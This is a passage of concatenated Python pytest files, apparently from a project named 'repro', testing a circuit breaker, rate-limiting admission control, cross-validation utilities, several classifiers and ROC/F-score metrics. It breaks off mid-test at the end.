