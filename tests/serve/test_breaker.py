"""The circuit breaker's state machine, driven by a fake clock.

closed → (threshold failures in window) → open → (cooloff) → half_open
→ (probe success) → closed, or → (probe failure) → open again.
"""

from repro.obs import MetricsRegistry
from repro.serve import CLOSED, HALF_OPEN, OPEN, CircuitBreaker


class FakeClock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def make(**kwargs):
    clock = FakeClock()
    registry = MetricsRegistry()
    defaults = dict(
        failure_threshold=3,
        window_s=10.0,
        cooloff_s=5.0,
        probe_limit=2,
        clock=clock,
        metrics=registry,
    )
    defaults.update(kwargs)
    return CircuitBreaker(**defaults), clock, registry


class TestBreaker:
    def test_stays_closed_below_threshold(self):
        breaker, _, _ = make()
        breaker.record_failure()
        breaker.record_failure()
        assert breaker.state == CLOSED
        assert breaker.allow()

    def test_old_failures_age_out_of_the_window(self):
        breaker, clock, _ = make(window_s=10.0)
        breaker.record_failure()
        breaker.record_failure()
        clock.advance(11.0)  # both fall out of the window
        breaker.record_failure()
        assert breaker.state == CLOSED

    def test_threshold_opens_and_refuses(self):
        breaker, _, registry = make()
        for _ in range(3):
            breaker.record_failure()
        assert breaker.state == OPEN
        assert not breaker.allow()
        snapshot = registry.to_dict()
        assert snapshot["gauges"]["serve.breaker_state"] == 2
        assert snapshot["counters"]["serve.breaker.open"] == 1

    def test_cooloff_half_opens_with_bounded_probes(self):
        breaker, clock, registry = make(probe_limit=2)
        for _ in range(3):
            breaker.record_failure()
        clock.advance(5.0)
        assert breaker.allow()  # first probe
        assert breaker.state == HALF_OPEN
        assert breaker.allow()  # second probe
        assert not breaker.allow()  # probe slots exhausted
        assert registry.to_dict()["gauges"]["serve.breaker_state"] == 1

    def test_probe_success_closes_and_resets(self):
        breaker, clock, registry = make()
        for _ in range(3):
            breaker.record_failure()
        clock.advance(5.0)
        assert breaker.allow()
        breaker.record_success()
        assert breaker.state == CLOSED
        assert breaker.allow()
        # The old failures were cleared: two fresh ones do not re-open.
        breaker.record_failure()
        breaker.record_failure()
        assert breaker.state == CLOSED
        assert registry.to_dict()["counters"]["serve.breaker.closed"] == 1

    def test_probe_failure_reopens_with_fresh_cooloff(self):
        breaker, clock, _ = make()
        for _ in range(3):
            breaker.record_failure()
        clock.advance(5.0)
        assert breaker.allow()
        breaker.record_failure()
        assert breaker.state == OPEN
        clock.advance(4.9)  # cooloff restarted at the probe failure
        assert not breaker.allow()
        clock.advance(0.2)
        assert breaker.allow()

    def test_failures_while_open_extend_the_cooloff(self):
        breaker, clock, _ = make()
        for _ in range(3):
            breaker.record_failure()
        clock.advance(4.0)
        breaker.record_failure()  # still collapsing; cooloff restarts
        clock.advance(4.0)
        assert not breaker.allow()
        clock.advance(1.1)
        assert breaker.allow()

    def test_abandoned_probe_frees_its_slot_without_deciding(self):
        breaker, clock, _ = make(probe_limit=1)
        for _ in range(3):
            breaker.record_failure()
        clock.advance(5.0)
        assert breaker.allow()
        assert not breaker.allow()  # slot held
        breaker.abandon_probe()  # probe ended with no verdict (e.g. 408)
        assert breaker.state == HALF_OPEN  # no decision was made
        assert breaker.allow()  # slot is available again

    def test_success_while_closed_is_a_no_op(self):
        breaker, _, _ = make()
        breaker.record_failure()
        breaker.record_success()
        assert breaker.state == CLOSED
        assert breaker.transitions == 0

    def test_transition_hook_sees_every_edge(self):
        breaker, clock, _ = make()
        edges = []
        breaker.on_transition = lambda old, new: edges.append((old, new))
        for _ in range(3):
            breaker.record_failure()
        clock.advance(5.0)
        breaker.allow()
        breaker.record_success()
        assert edges == [
            (CLOSED, OPEN),
            (OPEN, HALF_OPEN),
            (HALF_OPEN, CLOSED),
        ]
