"""Admission control decisions under a fake clock.

Every refusal must be *typed* (status + code + retry hint) and every
grant must be balanced by a release — these tests drive the controller
through rate limiting, per-client windows, queue shedding, and client
eviction without any real time passing.
"""

from repro.obs import MetricsRegistry
from repro.serve import AdmissionController, TokenBucket


class FakeClock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


class TestTokenBucket:
    def test_burst_then_rate(self):
        clock = FakeClock()
        bucket = TokenBucket(rate=2.0, burst=3.0, now=clock())
        assert [bucket.take(clock()) for _ in range(3)] == [0.0, 0.0, 0.0]
        wait = bucket.take(clock())
        assert wait == 0.5  # one token at 2/s
        clock.advance(0.5)
        assert bucket.take(clock()) == 0.0

    def test_refill_caps_at_burst(self):
        clock = FakeClock()
        bucket = TokenBucket(rate=10.0, burst=2.0, now=clock())
        clock.advance(100.0)
        assert bucket.take(clock()) == 0.0
        assert bucket.take(clock()) == 0.0
        assert bucket.take(clock()) > 0.0  # only burst-many accumulated


class TestAdmission:
    def make(self, **kwargs):
        clock = FakeClock()
        registry = MetricsRegistry()
        defaults = dict(
            max_queue=8,
            per_client_window=2,
            rate_per_s=10.0,
            burst=100.0,
            clock=clock,
            metrics=registry,
        )
        defaults.update(kwargs)
        return AdmissionController(**defaults), clock, registry

    def test_admit_and_release_balance(self):
        controller, _, registry = self.make()
        assert controller.admit("1.2.3.4", 0) is None
        assert controller.admit("1.2.3.4", 1) is None
        controller.release("1.2.3.4")
        controller.release("1.2.3.4")
        assert registry.to_dict()["counters"]["serve.admitted"] == 2

    def test_rate_limit_is_client_scoped_with_retry_hint(self):
        controller, clock, registry = self.make(rate_per_s=2.0, burst=2.0)
        assert controller.admit("a", 0) is None
        controller.release("a")
        assert controller.admit("a", 0) is None
        controller.release("a")
        rejection = controller.admit("a", 0)
        assert rejection is not None
        assert (rejection.status, rejection.code) == (429, "rate_limited")
        assert rejection.retry_after == 0.5
        # A different client has its own bucket.
        assert controller.admit("b", 0) is None
        # And the limited client recovers once a token refills.
        clock.advance(0.5)
        assert controller.admit("a", 2) is None
        assert registry.to_dict()["counters"]["serve.rate_limited"] == 1

    def test_per_client_window_blocks_the_third_in_flight(self):
        controller, _, registry = self.make(per_client_window=2)
        assert controller.admit("a", 0) is None
        assert controller.admit("a", 1) is None
        rejection = controller.admit("a", 2)
        assert (rejection.status, rejection.code) == (429, "client_saturated")
        controller.release("a")
        assert controller.admit("a", 2) is None
        assert registry.to_dict()["counters"]["serve.client_saturated"] == 1

    def test_queue_depth_shed_is_server_scoped(self):
        controller, _, registry = self.make(max_queue=4)
        assert controller.shed_line == 4
        rejection = controller.admit("a", 4)
        assert (rejection.status, rejection.code) == (503, "queue_full")
        assert rejection.retry_after > 0
        # Below the line the same client is fine — nothing was consumed.
        assert controller.admit("a", 3) is None
        assert registry.to_dict()["counters"]["serve.shed"] == 1

    def test_release_of_unknown_client_is_harmless(self):
        controller, _, _ = self.make()
        controller.release("never-seen")  # no KeyError, no negative count
        assert controller.admit("never-seen", 0) is None

    def test_eviction_skips_clients_with_requests_in_flight(self):
        controller, clock, _ = self.make(max_clients=2)
        assert controller.admit("busy", 0) is None  # holds one in flight
        clock.advance(1.0)
        assert controller.admit("idle", 1) is None
        controller.release("idle")
        clock.advance(1.0)
        # A third client forces an eviction: "busy" is oldest but has a
        # request in flight, so it must survive; "idle" may go.
        assert controller.admit("new", 1) is None
        assert "busy" in controller._clients
        controller.release("busy")
        controller.release("new")
