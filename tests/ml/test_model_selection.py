"""Tests for preprocessing and cross-validation."""

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.ml.base import NotFittedError
from repro.ml.lda import LinearDiscriminantAnalysis
from repro.ml.model_selection import (
    StratifiedKFold,
    cross_validate,
    train_test_split,
)
from repro.ml.preprocessing import Binarizer, MedianBinarizer, StandardScaler
from repro.ml.tree import DecisionTreeClassifier


class TestStandardScaler:
    def test_zero_mean_unit_variance(self):
        rng = np.random.default_rng(0)
        X = rng.normal(5.0, 3.0, size=(200, 4))
        scaled = StandardScaler().fit_transform(X)
        assert np.allclose(scaled.mean(axis=0), 0.0, atol=1e-9)
        assert np.allclose(scaled.std(axis=0), 1.0, atol=1e-9)

    def test_constant_feature_not_divided_by_zero(self):
        X = np.column_stack([np.ones(10), np.arange(10.0)])
        scaled = StandardScaler().fit_transform(X)
        assert np.all(np.isfinite(scaled))
        assert np.allclose(scaled[:, 0], 0.0)

    def test_inverse_round_trip(self):
        rng = np.random.default_rng(1)
        X = rng.normal(size=(50, 3))
        scaler = StandardScaler().fit(X)
        assert np.allclose(scaler.inverse_transform(scaler.transform(X)), X)

    def test_transform_before_fit_raises(self):
        with pytest.raises(NotFittedError):
            StandardScaler().transform(np.zeros((2, 2)))

    def test_feature_count_mismatch(self):
        scaler = StandardScaler().fit(np.zeros((5, 3)))
        with pytest.raises(ValueError):
            scaler.transform(np.zeros((5, 4)))

    @given(st.integers(min_value=2, max_value=50), st.integers(0, 2**31))
    def test_transform_is_affine(self, n, seed):
        rng = np.random.default_rng(seed)
        X = rng.normal(size=(n, 3))
        scaler = StandardScaler().fit(X)
        a, b = X[:1], X[1:2]
        midpoint = (a + b) / 2
        transformed_midpoint = (scaler.transform(a) + scaler.transform(b)) / 2
        assert np.allclose(scaler.transform(midpoint), transformed_midpoint)


class TestBinarizers:
    def test_binarizer_threshold(self):
        X = np.array([[-1.0, 0.0, 0.5, 2.0]])
        assert np.array_equal(
            Binarizer(threshold=0.0).fit_transform(X), [[0.0, 0.0, 1.0, 1.0]]
        )

    def test_median_binarizer_splits_evenly(self):
        X = np.arange(100, dtype=float).reshape(-1, 1)
        binary = MedianBinarizer().fit_transform(X)
        assert binary.sum() == 50  # strictly above the median

    def test_median_binarizer_not_fitted(self):
        with pytest.raises(NotFittedError):
            MedianBinarizer().transform(np.zeros((2, 2)))


class TestStratifiedKFold:
    def test_folds_partition_the_data(self):
        y = np.r_[np.zeros(30), np.ones(20)]
        X = np.zeros((50, 1))
        seen = []
        for train, test in StratifiedKFold(n_splits=5).split(X, y):
            assert len(np.intersect1d(train, test)) == 0
            seen.extend(test.tolist())
        assert sorted(seen) == list(range(50))

    def test_stratification_preserved(self):
        y = np.r_[np.zeros(40), np.ones(10)]
        X = np.zeros((50, 1))
        for _, test in StratifiedKFold(n_splits=5).split(X, y):
            positives = int(y[test].sum())
            assert positives == 2  # 10 positives over 5 folds

    def test_too_few_samples_per_class(self):
        y = np.r_[np.zeros(20), np.ones(3)]
        X = np.zeros((23, 1))
        with pytest.raises(ValueError):
            list(StratifiedKFold(n_splits=5).split(X, y))

    def test_invalid_n_splits(self):
        with pytest.raises(ValueError):
            StratifiedKFold(n_splits=1)

    def test_deterministic_given_seed(self):
        y = np.r_[np.zeros(30), np.ones(30)]
        X = np.zeros((60, 1))
        a = [t.tolist() for _, t in StratifiedKFold(5, random_state=3).split(X, y)]
        b = [t.tolist() for _, t in StratifiedKFold(5, random_state=3).split(X, y)]
        assert a == b


class TestTrainTestSplit:
    def test_sizes(self):
        X = np.arange(100).reshape(-1, 1)
        y = np.r_[np.zeros(50), np.ones(50)]
        X_tr, X_te, y_tr, y_te = train_test_split(X, y, test_size=0.2)
        assert len(X_te) == 20
        assert len(X_tr) == 80
        assert y_te.sum() == 10  # stratified

    def test_invalid_test_size(self):
        with pytest.raises(ValueError):
            train_test_split(np.zeros((4, 1)), np.zeros(4), test_size=1.5)


class TestCrossValidate:
    def make_data(self, n=120):
        rng = np.random.default_rng(0)
        X = rng.normal(size=(n, 3))
        y = (X[:, 0] + 0.2 * rng.normal(size=n) > 0).astype(int)
        return X, y

    def test_pooled_predictions_cover_every_sample(self):
        X, y = self.make_data()
        result = cross_validate(
            lambda: DecisionTreeClassifier(random_state=0), X, y, n_splits=5
        )
        assert result.pooled_true.shape[0] == X.shape[0]
        assert len(result.fold_reports) == 5

    def test_high_accuracy_on_learnable_problem(self):
        X, y = self.make_data()
        result = cross_validate(
            lambda: LinearDiscriminantAnalysis(), X, y, n_splits=5
        )
        assert result.pooled_report["accuracy"] >= 0.85
        assert result.mean_metric("accuracy") >= 0.85

    def test_preprocessor_is_fitted_per_fold(self):
        """The scaler must not leak test-fold statistics."""
        X, y = self.make_data()
        calls = []

        class SpyScaler(StandardScaler):
            def fit(self, X_in):
                calls.append(len(X_in))
                return super().fit(X_in)

        cross_validate(
            lambda: LinearDiscriminantAnalysis(),
            X,
            y,
            n_splits=5,
            preprocessor_factory=SpyScaler,
        )
        assert len(calls) == 5
        # Roughly 4/5 of 120 per fold (exact size depends on how the
        # class counts divide across folds).
        assert all(92 <= size <= 100 for size in calls)

    def test_pooled_auc_between_zero_and_one(self):
        X, y = self.make_data()
        result = cross_validate(
            lambda: LinearDiscriminantAnalysis(), X, y, n_splits=5
        )
        assert 0.9 <= result.pooled_auc <= 1.0
