"""Tests for the five classifiers on synthetic, known-geometry data."""

import numpy as np
import pytest

from repro.ml.base import NotFittedError
from repro.ml.forest import RandomForestClassifier
from repro.ml.lda import LinearDiscriminantAnalysis
from repro.ml.mlp import MLPClassifier
from repro.ml.naive_bayes import BernoulliNB
from repro.ml.svm import SVC, rbf_kernel
from repro.ml.tree import DecisionTreeClassifier


def make_blobs(n_per_class=80, separation=4.0, seed=0, n_features=4):
    """Two Gaussian blobs: a linearly separable binary problem."""
    rng = np.random.default_rng(seed)
    center = np.full(n_features, separation / 2.0)
    X0 = rng.normal(-center, 1.0, size=(n_per_class, n_features))
    X1 = rng.normal(center, 1.0, size=(n_per_class, n_features))
    X = np.vstack([X0, X1])
    y = np.r_[np.zeros(n_per_class, dtype=int), np.ones(n_per_class, dtype=int)]
    order = rng.permutation(y.size)
    return X[order], y[order]


def make_xor(n=200, seed=1):
    """XOR pattern: not linearly separable — RBF SVM / trees / MLP territory."""
    rng = np.random.default_rng(seed)
    X = rng.uniform(-1, 1, size=(n, 2))
    y = ((X[:, 0] > 0) ^ (X[:, 1] > 0)).astype(int)
    return X, y


ALL_FACTORIES = {
    "tree": lambda: DecisionTreeClassifier(random_state=0),
    "forest": lambda: RandomForestClassifier(n_estimators=25, random_state=0),
    "svm": lambda: SVC(C=10.0, gamma=0.5, max_iter=40),
    "mlp": lambda: MLPClassifier(hidden_layer_sizes=(16,), max_epochs=80, random_state=0),
    "lda": lambda: LinearDiscriminantAnalysis(),
    "bnb": lambda: BernoulliNB(),
}


class TestAllClassifiersSharedContract:
    @pytest.mark.parametrize("name", ALL_FACTORIES)
    def test_separable_blobs_high_accuracy(self, name):
        X, y = make_blobs()
        model = ALL_FACTORIES[name]().fit(X, y)
        assert model.score(X, y) >= 0.95

    @pytest.mark.parametrize("name", ALL_FACTORIES)
    def test_predict_proba_rows_sum_to_one(self, name):
        X, y = make_blobs(n_per_class=40)
        model = ALL_FACTORIES[name]().fit(X, y)
        probabilities = model.predict_proba(X)
        assert probabilities.shape == (X.shape[0], 2)
        assert np.allclose(probabilities.sum(axis=1), 1.0)
        assert np.all(probabilities >= 0)

    @pytest.mark.parametrize("name", ALL_FACTORIES)
    def test_unfitted_predict_raises(self, name):
        with pytest.raises(NotFittedError):
            ALL_FACTORIES[name]().predict(np.zeros((3, 4)))

    @pytest.mark.parametrize("name", ALL_FACTORIES)
    def test_classes_attribute_sorted(self, name):
        X, y = make_blobs(n_per_class=30)
        labels = np.where(y == 1, "obfuscated", "normal")
        model = ALL_FACTORIES[name]().fit(X, labels)
        assert list(model.classes_) == ["normal", "obfuscated"]
        predictions = model.predict(X)
        assert set(predictions) <= {"normal", "obfuscated"}

    @pytest.mark.parametrize("name", ALL_FACTORIES)
    def test_decision_scores_rank_positives_higher(self, name):
        X, y = make_blobs()
        model = ALL_FACTORIES[name]().fit(X, y)
        scores = model.decision_scores(X)
        assert scores[y == 1].mean() > scores[y == 0].mean()

    @pytest.mark.parametrize("name", ALL_FACTORIES)
    def test_nan_input_rejected(self, name):
        X, y = make_blobs(n_per_class=20)
        X[0, 0] = np.nan
        with pytest.raises(ValueError):
            ALL_FACTORIES[name]().fit(X, y)


class TestDecisionTree:
    def test_pure_node_short_circuits(self):
        X = np.array([[0.0], [1.0], [2.0]])
        y = np.array([1, 1, 1])
        tree = DecisionTreeClassifier().fit(X, y)
        assert tree.depth_ == 0
        assert tree.n_leaves_ == 1

    def test_single_split_problem(self):
        X = np.array([[0.0], [1.0], [2.0], [3.0]])
        y = np.array([0, 0, 1, 1])
        tree = DecisionTreeClassifier().fit(X, y)
        assert tree.depth_ == 1
        assert np.array_equal(tree.predict(X), y)

    def test_max_depth_respected(self):
        X, y = make_xor(n=300)
        tree = DecisionTreeClassifier(max_depth=3, random_state=0).fit(X, y)
        assert tree.depth_ <= 3

    def test_min_samples_leaf(self):
        X, y = make_blobs(n_per_class=50)
        tree = DecisionTreeClassifier(min_samples_leaf=10, random_state=0).fit(X, y)

        def check(node):
            if node.is_leaf:
                assert node.counts.sum() >= 10
            else:
                check(node.left)
                check(node.right)

        check(tree._root)

    def test_xor_needs_depth_two(self):
        X, y = make_xor(n=400)
        deep = DecisionTreeClassifier(random_state=0).fit(X, y)
        assert deep.score(X, y) >= 0.95

    def test_invalid_params(self):
        with pytest.raises(ValueError):
            DecisionTreeClassifier(min_samples_split=1)
        with pytest.raises(ValueError):
            DecisionTreeClassifier(min_samples_leaf=0)
        with pytest.raises(ValueError):
            DecisionTreeClassifier(max_features=0.0).fit(*make_blobs(10))


class TestRandomForest:
    def test_xor_generalization(self):
        X, y = make_xor(n=400, seed=2)
        X_test, y_test = make_xor(n=200, seed=3)
        forest = RandomForestClassifier(n_estimators=40, random_state=0).fit(X, y)
        assert forest.score(X_test, y_test) >= 0.9

    def test_oob_score_reasonable(self):
        X, y = make_blobs(n_per_class=100)
        forest = RandomForestClassifier(n_estimators=30, random_state=0).fit(X, y)
        assert forest.oob_score_ >= 0.9

    def test_oob_requires_bootstrap(self):
        X, y = make_blobs(n_per_class=20)
        forest = RandomForestClassifier(
            n_estimators=5, bootstrap=False, random_state=0
        ).fit(X, y)
        with pytest.raises(ValueError):
            _ = forest.oob_score_

    def test_deterministic_given_seed(self):
        X, y = make_blobs(n_per_class=30)
        a = RandomForestClassifier(n_estimators=10, random_state=5).fit(X, y)
        b = RandomForestClassifier(n_estimators=10, random_state=5).fit(X, y)
        assert np.array_equal(a.predict_proba(X), b.predict_proba(X))

    def test_invalid_estimator_count(self):
        with pytest.raises(ValueError):
            RandomForestClassifier(n_estimators=0)


class TestSVM:
    def test_rbf_kernel_values(self):
        A = np.array([[0.0, 0.0], [1.0, 0.0]])
        K = rbf_kernel(A, A, gamma=1.0)
        assert K[0, 0] == pytest.approx(1.0)
        assert K[0, 1] == pytest.approx(np.exp(-1.0))
        assert np.allclose(K, K.T)

    def test_xor_with_rbf(self):
        X, y = make_xor(n=240, seed=4)
        model = SVC(C=10.0, gamma=5.0, max_iter=120).fit(X, y)
        assert model.score(X, y) >= 0.9
        # A linear kernel cannot express XOR.
        linear = SVC(C=10.0, gamma=1.0, kernel="linear", max_iter=60).fit(X, y)
        assert model.score(X, y) > linear.score(X, y)

    def test_support_vectors_are_subset(self):
        X, y = make_blobs(n_per_class=50)
        model = SVC(C=1.0, gamma=0.5, max_iter=40).fit(X, y)
        assert 0 < model.support_vectors_.shape[0] <= X.shape[0]

    def test_margin_violations_bounded_by_C(self):
        X, y = make_blobs(n_per_class=50)
        model = SVC(C=5.0, gamma=0.5, max_iter=40).fit(X, y)
        assert np.all(np.abs(model.dual_coef_) <= 5.0 + 1e-6)

    def test_multiclass_rejected(self):
        X = np.random.default_rng(0).random((30, 3))
        y = np.array([0, 1, 2] * 10)
        with pytest.raises(ValueError):
            SVC().fit(X, y)

    def test_gamma_scale(self):
        X, y = make_blobs(n_per_class=40)
        model = SVC(C=5.0, gamma="scale", max_iter=30).fit(X, y)
        assert model.score(X, y) >= 0.95

    def test_invalid_params(self):
        with pytest.raises(ValueError):
            SVC(C=-1.0)
        with pytest.raises(ValueError):
            SVC(kernel="poly")
        with pytest.raises(ValueError):
            SVC(gamma=-0.5).fit(*make_blobs(10))


class TestMLP:
    def test_xor_learnable(self):
        X, y = make_xor(n=400, seed=5)
        model = MLPClassifier(
            hidden_layer_sizes=(32,), max_epochs=300, random_state=0,
            early_stopping=False,
        ).fit(X, y)
        assert model.score(X, y) >= 0.9

    def test_loss_decreases(self):
        X, y = make_blobs(n_per_class=100)
        model = MLPClassifier(
            hidden_layer_sizes=(16,), max_epochs=40, random_state=0,
            early_stopping=False,
        ).fit(X, y)
        assert model.loss_curve_[-1] < model.loss_curve_[0]

    def test_early_stopping_halts_sooner(self):
        # Noisy labels: validation loss plateaus quickly, so patience fires.
        rng = np.random.default_rng(0)
        X = rng.normal(size=(300, 4))
        y = rng.integers(0, 2, size=300)
        eager = MLPClassifier(
            hidden_layer_sizes=(16,), max_epochs=200, random_state=0,
            early_stopping=True, n_iter_no_change=5,
        ).fit(X, y)
        assert eager.n_epochs_ < 200

    def test_two_hidden_layers(self):
        X, y = make_blobs(n_per_class=60)
        model = MLPClassifier(
            hidden_layer_sizes=(16, 8), max_epochs=60, random_state=0
        ).fit(X, y)
        assert model.score(X, y) >= 0.95

    def test_invalid_params(self):
        with pytest.raises(ValueError):
            MLPClassifier(hidden_layer_sizes=())
        with pytest.raises(ValueError):
            MLPClassifier(hidden_layer_sizes=(0,))
        with pytest.raises(ValueError):
            MLPClassifier(validation_fraction=1.5)

    def test_gradient_check(self):
        """Numerical gradient check on a tiny network."""
        rng = np.random.default_rng(0)
        X = rng.normal(size=(10, 3))
        y = rng.integers(0, 2, size=10)
        model = MLPClassifier(hidden_layer_sizes=(4,), random_state=0, alpha=0.0)
        model.fit(X[:2], y[:2] if len(set(y[:2])) == 2 else np.array([0, 1]))
        targets = y.astype(float)
        grads_w, _, _ = model._backprop(X, targets)
        epsilon = 1e-6
        weight = model._weights[0]
        numeric = np.zeros_like(weight)
        for i in range(weight.shape[0]):
            for j in range(weight.shape[1]):
                original = weight[i, j]
                weight[i, j] = original + epsilon
                up = model._loss(X, targets)
                weight[i, j] = original - epsilon
                down = model._loss(X, targets)
                weight[i, j] = original
                numeric[i, j] = (up - down) / (2 * epsilon)
        assert np.allclose(grads_w[0], numeric, atol=1e-4)


class TestLDA:
    def test_recovers_gaussian_boundary(self):
        X, y = make_blobs(n_per_class=200, separation=3.0)
        model = LinearDiscriminantAnalysis().fit(X, y)
        assert model.score(X, y) >= 0.95

    def test_priors_sum_to_one(self):
        X, y = make_blobs(n_per_class=30)
        model = LinearDiscriminantAnalysis().fit(X, y)
        assert model.priors_.sum() == pytest.approx(1.0)

    def test_collinear_features_stable(self):
        rng = np.random.default_rng(0)
        base = rng.normal(size=(100, 1))
        X = np.hstack([base, base * 2.0, rng.normal(size=(100, 1))])
        y = (base.ravel() > 0).astype(int)
        model = LinearDiscriminantAnalysis().fit(X, y)
        assert model.score(X, y) >= 0.95

    def test_single_class_rejected(self):
        X = np.random.default_rng(0).random((10, 2))
        with pytest.raises(ValueError):
            LinearDiscriminantAnalysis().fit(X, np.zeros(10))

    def test_negative_shrinkage_rejected(self):
        with pytest.raises(ValueError):
            LinearDiscriminantAnalysis(shrinkage=-1.0)


class TestBernoulliNB:
    def test_learns_bernoulli_pattern(self):
        rng = np.random.default_rng(0)
        n = 400
        y = rng.integers(0, 2, size=n)
        # Feature 0 fires mostly for class 1, feature 1 mostly for class 0.
        X = np.column_stack(
            [
                rng.random(n) < np.where(y == 1, 0.9, 0.1),
                rng.random(n) < np.where(y == 0, 0.9, 0.1),
            ]
        ).astype(float)
        model = BernoulliNB().fit(X, y)
        assert model.score(X, y) >= 0.85

    def test_absent_features_inform_prediction(self):
        """Bernoulli (not multinomial) NB: zeros carry signal."""
        X = np.array([[1.0, 0.0]] * 10 + [[0.0, 0.0]] * 10)
        y = np.array([1] * 10 + [0] * 10)
        model = BernoulliNB().fit(X, y)
        assert model.predict(np.array([[0.0, 0.0]]))[0] == 0

    def test_smoothing_handles_unseen_values(self):
        X = np.array([[1.0], [1.0], [0.0], [0.0]])
        y = np.array([1, 1, 0, 0])
        model = BernoulliNB(alpha=1.0).fit(X, y)
        probabilities = model.predict_proba(np.array([[1.0]]))
        assert np.all(probabilities > 0)

    def test_binarize_threshold(self):
        X = np.array([[5.0], [5.0], [-5.0], [-5.0]])
        y = np.array([1, 1, 0, 0])
        model = BernoulliNB(binarize=0.0).fit(X, y)
        assert model.predict(np.array([[7.0]]))[0] == 1
        assert model.predict(np.array([[-7.0]]))[0] == 0

    def test_invalid_alpha(self):
        with pytest.raises(ValueError):
            BernoulliNB(alpha=0.0)


class TestFeatureImportances:
    def test_importances_sum_to_one(self):
        X, y = make_blobs(n_per_class=60)
        forest = RandomForestClassifier(n_estimators=15, random_state=0).fit(X, y)
        importances = forest.feature_importances_
        assert importances.shape == (X.shape[1],)
        assert importances.sum() == pytest.approx(1.0)
        assert np.all(importances >= 0)

    def test_informative_feature_ranks_first(self):
        rng = np.random.default_rng(0)
        n = 300
        informative = rng.normal(size=n)
        noise = rng.normal(size=(n, 3))
        X = np.column_stack([noise[:, 0], informative, noise[:, 1:]])
        y = (informative > 0).astype(int)
        forest = RandomForestClassifier(n_estimators=25, random_state=0).fit(X, y)
        assert int(np.argmax(forest.feature_importances_)) == 1

    def test_tree_importances_available(self):
        X, y = make_blobs(n_per_class=40)
        tree = DecisionTreeClassifier(random_state=0).fit(X, y)
        assert tree.feature_importances_.sum() == pytest.approx(1.0)

    def test_pure_training_set_gives_zero_importances(self):
        X = np.random.default_rng(0).random((10, 3))
        tree = DecisionTreeClassifier().fit(X, np.zeros(10, dtype=int))
        assert tree.feature_importances_.sum() == 0.0
