"""Metric tests against hand-computed values and invariants."""

import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.ml.metrics import (
    accuracy_score,
    auc,
    classification_report,
    confusion_matrix_binary,
    f1_score,
    f2_score,
    fbeta_score,
    precision_score,
    recall_score,
    roc_auc_score,
    roc_curve,
)

Y_TRUE = np.array([1, 1, 1, 1, 0, 0, 0, 0, 0, 0])
Y_PRED = np.array([1, 1, 1, 0, 1, 0, 0, 0, 0, 0])
# tp=3 fp=1 fn=1 tn=5


class TestBasicMetrics:
    def test_confusion_matrix(self):
        assert confusion_matrix_binary(Y_TRUE, Y_PRED) == (3, 1, 1, 5)

    def test_accuracy(self):
        assert accuracy_score(Y_TRUE, Y_PRED) == 0.8

    def test_precision(self):
        assert precision_score(Y_TRUE, Y_PRED) == 0.75

    def test_recall(self):
        assert recall_score(Y_TRUE, Y_PRED) == 0.75

    def test_f1(self):
        assert f1_score(Y_TRUE, Y_PRED) == pytest.approx(0.75)

    def test_f2_hand_computed(self):
        # F2 = 5 P R / (4 P + R) = 5*0.75*0.75 / (4*0.75 + 0.75) = 0.75
        assert f2_score(Y_TRUE, Y_PRED) == pytest.approx(0.75)

    def test_f2_weighs_recall_more(self):
        # High-recall/low-precision predictor: predict everything positive.
        y_true = np.array([1, 1, 0, 0, 0, 0])
        y_all = np.ones(6, dtype=int)
        # precision=1/3, recall=1.
        assert f2_score(y_true, y_all) > f1_score(y_true, y_all)

    def test_zero_division_cases(self):
        y_true = np.array([1, 1, 0])
        none_positive = np.zeros(3, dtype=int)
        assert precision_score(y_true, none_positive) == 0.0
        assert f2_score(y_true, none_positive) == 0.0
        all_negative_truth = np.zeros(3, dtype=int)
        assert recall_score(all_negative_truth, none_positive) == 0.0

    def test_shape_mismatch_raises(self):
        with pytest.raises(ValueError):
            accuracy_score([1, 0], [1])

    def test_empty_raises(self):
        with pytest.raises(ValueError):
            accuracy_score([], [])

    def test_bad_beta_raises(self):
        with pytest.raises(ValueError):
            fbeta_score(Y_TRUE, Y_PRED, beta=0)

    def test_classification_report_bundle(self):
        report = classification_report(Y_TRUE, Y_PRED)
        assert set(report) == {"accuracy", "precision", "recall", "f1", "f2"}
        assert report["accuracy"] == 0.8


class TestROC:
    def test_perfect_separation_auc_is_one(self):
        y = np.array([0, 0, 1, 1])
        scores = np.array([0.1, 0.2, 0.8, 0.9])
        assert roc_auc_score(y, scores) == pytest.approx(1.0)

    def test_inverted_scores_auc_is_zero(self):
        y = np.array([0, 0, 1, 1])
        scores = np.array([0.9, 0.8, 0.2, 0.1])
        assert roc_auc_score(y, scores) == pytest.approx(0.0)

    def test_random_scores_auc_half(self):
        rng = np.random.default_rng(0)
        y = rng.integers(0, 2, size=4000)
        scores = rng.random(4000)
        assert roc_auc_score(y, scores) == pytest.approx(0.5, abs=0.05)

    def test_curve_endpoints(self):
        y = np.array([0, 1, 0, 1, 1])
        scores = np.array([0.1, 0.9, 0.4, 0.35, 0.8])
        fpr, tpr, thresholds = roc_curve(y, scores)
        assert fpr[0] == 0.0 and tpr[0] == 0.0
        assert fpr[-1] == 1.0 and tpr[-1] == 1.0
        assert thresholds[0] == np.inf

    def test_curve_monotonic(self):
        rng = np.random.default_rng(3)
        y = rng.integers(0, 2, size=200)
        scores = rng.random(200)
        fpr, tpr, _ = roc_curve(y, scores)
        assert np.all(np.diff(fpr) >= 0)
        assert np.all(np.diff(tpr) >= 0)

    def test_single_class_raises(self):
        with pytest.raises(ValueError):
            roc_curve(np.ones(5), np.random.default_rng(0).random(5))

    def test_auc_equals_rank_statistic(self):
        """AUC must equal the Mann-Whitney U statistic normalization."""
        rng = np.random.default_rng(7)
        y = rng.integers(0, 2, size=300)
        if y.sum() in (0, 300):
            y[0] = 1 - y[0]
        scores = rng.random(300)
        pos = scores[y == 1]
        neg = scores[y == 0]
        u_statistic = np.mean(
            (pos[:, None] > neg[None, :]).astype(float)
            + 0.5 * (pos[:, None] == neg[None, :])
        )
        assert roc_auc_score(y, scores) == pytest.approx(u_statistic, abs=1e-9)

    def test_auc_rejects_short_input(self):
        with pytest.raises(ValueError):
            auc([0.0], [0.0])


class TestPropertyBased:
    @given(
        st.lists(
